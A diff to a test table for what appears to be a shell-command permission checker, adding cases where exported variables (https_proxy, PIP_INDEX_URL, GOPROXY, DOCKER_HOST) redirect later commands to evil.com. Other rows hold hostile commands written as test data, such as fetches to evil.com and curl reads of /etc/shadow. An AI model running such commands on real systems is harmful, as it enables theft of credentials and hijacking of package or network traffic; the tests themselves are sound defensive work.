@@ -162,6 +162,9 @@ describe('option forms and names the readers first missed', () => {
     [`perl -e 'print qx (rm x)'`, 'deny'], [`node -e 'fetch("https:evil.com")'`, 'deny'], [`node -e 'fetch("https:/evil.com")'`, 'deny'],
     // URLs a table command fetches.
     ['vim https://evil.com/x', 'deny'], ['xmllint http://evil.com/x.xml', 'deny'],
+    // Variables that choose where later commands connect.
+    ['export https_proxy=http://evil.com:3128; curl https://github.com', 'ask'], ['export PIP_INDEX_URL=https://evil.com/simple; pip install x', 'ask'],
+    ['export GOPROXY=https://evil.com; go get x', 'ask'], ['export DOCKER_HOST=tcp://evil.com:2375; docker ps', 'ask'],
     // A file: URL is a path the tool reads.
     ['curl file:///etc/shadow', 'deny'], ['curl file://localhost/etc/x', 'deny'], ['wget file:///etc/%73hadow', 'deny'],
   ])('%s: %s', (line, expected) => {
